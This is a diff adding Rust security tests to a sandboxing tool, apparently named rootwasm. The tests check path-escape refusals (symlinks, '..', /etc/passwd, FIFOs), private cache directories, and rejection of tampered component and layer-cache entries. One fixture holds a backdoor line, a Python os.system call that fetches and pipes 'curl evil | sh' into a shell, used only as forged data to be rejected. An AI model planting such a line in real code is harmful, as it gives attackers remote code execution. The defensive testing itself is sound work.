@@ -2,6 +2,13 @@
 //! outside the recipe, cache directories others can write, terminal output.
 
 use crate::support::*;
+use rootwasm::image::cache::LayerCache;
+use rootwasm::image::layer::{Entry, EntryKind, LayerIndex};
+use rootwasm::image::model::Digest;
+use rootwasm::journal::Sha256Hex;
+use rootwasm::sandbox::{CacheUse, ComponentCache, Sandbox, SandboxOptions};
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
 use rootwasm::commit::commit;
 use rootwasm::rootfs::DirRoot;
 use rootwasm::scope::Scope;
@@ -56,4 +63,264 @@ fn commit_ignores_planted_temporary_names() {
     use std::os::unix::fs::PermissionsExt;
     let mode = std::fs::metadata(root.join("etc/target")).unwrap().permissions().mode();
     assert_eq!(mode & 0o7777, 0o640);
+}
+
+/// A recipe directory with one artifact at `path`, pinned to `sha256`.
+fn artifact_recipe(dir: &std::path::Path, path: &str, sha256: &str) -> std::path::PathBuf {
+    let d = dir.join("r");
+    std::fs::create_dir_all(&d).unwrap();
+    std::fs::write(
+        d.join("recipe.toml"),
+        format!(
+            r#"id = "x-1"
+type = "backport"
+summary = "s"
+[[fixes]]
+id = "CVE-2023-1"
+severity = "high"
+published = "2023-05-22"
+[target]
+ecosystem = "generic"
+package = "x"
+affected = "*"
+[component]
+path = "recipe.wasm"
+sha256 = "00"
+[[artifacts]]
+path = {path:?}
+sha256 = "{sha256}"
+"#
+        ),
+    )
+    .unwrap();
+    d
+}
+
+fn sha256_hex(b: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(b))
+}
+
+/// Artifacts load only from inside the recipe directory, through no symlink,
+/// and a wrong pin on a host file never prints that file's hash.
+#[test]
+fn artifacts_resolve_inside_the_recipe_without_symlinks() {
+    use rootwasm::manifest::Recipe;
+    let tmp = tempfile::tempdir().unwrap();
+    let host = tmp.path().join("host");
+    std::fs::create_dir_all(&host).unwrap();
+    let secret = b"host secret\n";
+    std::fs::write(host.join("secret"), secret).unwrap();
+    let secret_sha = sha256_hex(secret);
+
+    // A symlinked subdirectory and a symlinked file, with the right pin and a wrong one.
+    for (path, plant) in [("sub/secret", "dir"), ("file", "file"), ("a/b/secret", "deep")] {
+        for pin in [secret_sha.clone(), "0".repeat(64)] {
+            let case = tempfile::tempdir().unwrap();
+            let d = artifact_recipe(case.path(), path, &pin);
+            match plant {
+                "dir" => symlink(&host, d.join("sub")).unwrap(),
+                "file" => symlink(host.join("secret"), d.join("file")).unwrap(),
+                _ => {
+                    std::fs::create_dir_all(d.join("a")).unwrap();
+                    symlink(&host, d.join("a/b")).unwrap();
+                }
+            }
+            let e = Recipe::load_without_component(&d).unwrap_err().to_string();
+            assert!(e.contains("symlink"), "{path}: {e}");
+            assert!(!e.contains(&secret_sha), "{path}: the error leaks the host file's hash: {e}");
+        }
+    }
+    // `..` and absolute paths are refused before anything is opened.
+    for path in ["../host/secret", "/etc/passwd", "a/../../host/secret", ""] {
+        let case = tempfile::tempdir().unwrap();
+        let d = artifact_recipe(case.path(), path, &secret_sha);
+        let e = Recipe::load_without_component(&d).unwrap_err().to_string();
+        assert!(e.contains("inside the recipe directory"), "{path:?}: {e}");
+    }
+    // A FIFO is refused, not waited on.
+    let case = tempfile::tempdir().unwrap();
+    let d = artifact_recipe(case.path(), "fifo", &secret_sha);
+    let made = std::process::Command::new("mkfifo").arg(d.join("fifo")).status().unwrap();
+    assert!(made.success());
+    let e = Recipe::load_without_component(&d).unwrap_err().to_string();
+    assert!(e.contains("regular file"), "{e}");
+    // A real file in a real subdirectory still loads.
+    let case = tempfile::tempdir().unwrap();
+    let d = artifact_recipe(case.path(), "data/secret", &secret_sha);
+    std::fs::create_dir_all(d.join("data")).unwrap();
+    std::fs::write(d.join("data/secret"), secret).unwrap();
+    let (_, artifacts) = Recipe::load_without_component(&d).unwrap();
+    assert_eq!(artifacts["secret"], secret);
+}
+
+/// Ways a cache directory can be open to someone else, each applied to a fresh copy.
+fn unsafe_variants(good: &Path, parent: &Path) -> Vec<(&'static str, std::path::PathBuf)> {
+    let copy = |name: &str| {
+        let d = parent.join(name);
+        copy_tree(good, &d);
+        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700)).unwrap();
+        d
+    };
+    let mut out = Vec::new();
+    let d = copy("world-writable");
+    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o777)).unwrap();
+    out.push(("world-writable", d));
+    let d = copy("group-readable");
+    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o750)).unwrap();
+    out.push(("group-readable", d));
+    let real = copy("real");
+    let link = parent.join("symlinked");
+    symlink(&real, &link).unwrap();
+    out.push(("symlink", link));
+    // A directory under a world-writable, non-sticky parent can be swapped.
+    let open_parent = parent.join("open-parent");
+    std::fs::create_dir(&open_parent).unwrap();
+    std::fs::set_permissions(&open_parent, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let d = open_parent.join("cache");
+    copy_tree(good, &d);
+    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700)).unwrap();
+    out.push(("open parent", d));
+    if rustix::process::geteuid().is_root() {
+        let d = copy("other-owner");
+        rustix::fs::chown(&d, Some(rustix::fs::Uid::from_raw(65534)), None).unwrap();
+        out.push(("other owner", d));
+    }
+    out
+}
+
+/// A planted precompiled component runs only if it is in a private directory
+/// and its header binds it to this wasm and engine.
+#[test]
+fn component_cache_uses_only_private_bound_entries() {
+    let tmp = tempfile::tempdir().unwrap();
+    let recipes = tmp.path().join("recipes");
+    let a = rootwasm::manifest::Recipe::load(&recipe_dir(&recipes, "a", guest("trivial"), ""))
+        .unwrap();
+    let b = rootwasm::manifest::Recipe::load(&recipe_dir(&recipes, "b", guest("hostile"), ""))
+        .unwrap();
+    let load = |dir: &Path, r: &rootwasm::manifest::Recipe| {
+        let sandbox = Sandbox::new(SandboxOptions {
+            cache: ComponentCache::new(dir.to_owned()),
+        })
+        .unwrap();
+        sandbox.load(r).unwrap().cache
+    };
+    let good = tmp.path().join("good");
+    assert_eq!(load(&good, &a), CacheUse::Compiled);
+    assert_eq!(load(&good, &a), CacheUse::Hit, "a private cache is used");
+    let mode = std::fs::metadata(&good).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o700, "the cache is created private");
+
+    for (what, dir) in unsafe_variants(&good, tmp.path()) {
+        assert_eq!(load(&dir, &a), CacheUse::Compiled, "{what}: a planted entry was loaded");
+    }
+
+    // In a private cache: b's code under a's name, a damaged copy, a headerless copy.
+    let entry = |dir: &Path| {
+        let c = dir.join("components");
+        let mut files: Vec<_> = std::fs::read_dir(&c).unwrap().map(|e| e.unwrap().path()).collect();
+        files.sort();
+        files
+    };
+    let b_cache = tmp.path().join("b-cache");
+    assert_eq!(load(&b_cache, &b), CacheUse::Compiled);
+    let a_file = entry(&good).pop().unwrap();
+    let b_file = entry(&b_cache).pop().unwrap();
+    let a_bytes = std::fs::read(&a_file).unwrap();
+    let tampers: Vec<(&str, Vec<u8>)> = vec![
+        ("another wasm's code", std::fs::read(&b_file).unwrap()),
+        ("one byte of code changed", {
+            let mut v = a_bytes.clone();
+            *v.last_mut().unwrap() ^= 0x55;
+            v
+        }),
+        ("no header", {
+            let split = a_bytes.windows(2).position(|w| w == b"\n\n").unwrap();
+            a_bytes[split + 2..].to_vec()
+        }),
+    ];
+    for (what, bytes) in tampers {
+        std::fs::write(&a_file, bytes).unwrap();
+        assert_eq!(load(&good, &a), CacheUse::Compiled, "{what} was loaded");
+    }
+}
+
+fn layer_index(content: &[u8]) -> LayerIndex {
+    let sha = Sha256Hex::of(content);
+    LayerIndex {
+        entries: vec![Entry {
+            path: rootwasm::rootfs::RootPath::lexical("/app/sessions.py").unwrap(),
+            name: "app/sessions.py".into(),
+            kind: EntryKind::File {
+                content: Some(sha.clone()),
+            },
+            mode: 0o644,
+            uid: 0,
+            gid: 0,
+            size: content.len() as u64,
+            mtime: 0,
+            xattrs: vec![],
+        }],
+        contents: [(sha, content.to_vec())].into_iter().collect(),
+    }
+}
+
+/// A cached layer index is used only from a private directory, and only for
+/// the layer, capture set and format it was made for, with every captured
+/// file matching its hash and size.
+#[test]
+fn layer_cache_refuses_unsafe_directories_and_forged_entries() {
+    let tmp = tempfile::tempdir().unwrap();
+    let layer = Digest::of(b"layer");
+    let other_layer = Digest::of(b"other layer");
+    let diff_id = Digest::of(b"diff");
+    let good = tmp.path().join("good");
+    let honest = layer_index(b"def session(): pass\n");
+    LayerCache::new(good.clone()).store(&layer, "k", &diff_id, &honest);
+    let (d, idx) = LayerCache::new(good.clone()).load(&layer, "k").expect("a private cache is used");
+    assert_eq!(d, diff_id);
+    assert_eq!(idx.contents, honest.contents);
+
+    for (what, dir) in unsafe_variants(&good, tmp.path()) {
+        assert!(
+            LayerCache::new(dir).load(&layer, "k").is_none(),
+            "{what}: a planted index was used"
+        );
+    }
+
+    let index_file = |l: &Digest, key: &str| good.join("layers").join(format!("{}-{key}.json", l.hex()));
+    // Copied under another layer's or capture set's name.
+    std::fs::copy(index_file(&layer, "k"), index_file(&other_layer, "k")).unwrap();
+    std::fs::copy(index_file(&layer, "k"), index_file(&layer, "all")).unwrap();
+    assert!(LayerCache::new(good.clone()).load(&other_layer, "k").is_none());
+    assert!(LayerCache::new(good.clone()).load(&layer, "all").is_none());
+
+    let original: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(index_file(&layer, "k")).unwrap()).unwrap();
+    let backdoor = b"import os; os.system('curl evil | sh')\n";
+    let backdoor_sha = Sha256Hex::of(backdoor);
+    let forge = |f: &dyn Fn(&mut serde_json::Value)| {
+        let mut v = original.clone();
+        f(&mut v);
+        std::fs::write(index_file(&layer, "k"), serde_json::to_vec(&v).unwrap()).unwrap();
+        LayerCache::new(good.clone()).load(&layer, "k").is_none()
+    };
+    // The entry points at content the index does not carry.
+    assert!(forge(&|v| v["entries"][0]["kind"]["File"]["content"] = backdoor_sha.0.clone().into()));
+    // A second blob nobody uses, and a size that does not match.
+    std::fs::write(good.join("contents").join(&backdoor_sha.0), backdoor).unwrap();
+    assert!(forge(&|v| v["contents"].as_array_mut().unwrap().push(backdoor_sha.0.clone().into())));
+    assert!(forge(&|v| v["entries"][0]["size"] = 1.into()));
+    // The old unbound format, and a blob whose bytes are not its name's hash.
+    assert!(forge(&|v| {
+        let o = v.as_object_mut().unwrap();
+        o.remove("format");
+        o.remove("layer");
+        o.remove("capture_key");
+    }));
+    assert!(!forge(&|_| {}), "the honest index still loads");
+    let blob = good.join("contents").join(&honest.contents.keys().next().unwrap().0);
+    std::fs::write(&blob, backdoor).unwrap();
+    assert!(LayerCache::new(good.clone()).load(&layer, "k").is_none());
 }
